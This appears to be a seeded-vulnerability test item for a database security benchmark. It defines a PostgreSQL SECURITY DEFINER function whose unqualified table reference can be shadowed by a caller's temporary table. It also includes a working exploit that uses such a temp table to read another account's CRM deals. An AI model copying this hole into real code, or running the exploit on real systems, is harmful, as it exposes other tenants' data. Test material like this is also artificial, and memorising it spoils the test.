-- mutant: A definer function finds a temporary table of its caller before its own
-- base: crm
-- family: function
-- leaks: values of another account
create function crm.deals_of_mine() returns setof crm.deals
language sql stable security definer set search_path = crm
as $$ select d.* from crm.deals d join account_users u using (account_id) where u.user_id = auth.uid() $$;
revoke all on function crm.deals_of_mine() from public;
grant execute on function crm.deals_of_mine() to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated"}
create temp table account_users (account_id uuid, user_id uuid) on commit drop;
insert into account_users values ('{{b}}', '{{user_a}}');
grant select on account_users to public;
select * from crm.deals_of_mine() where account_id = '{{b}}';
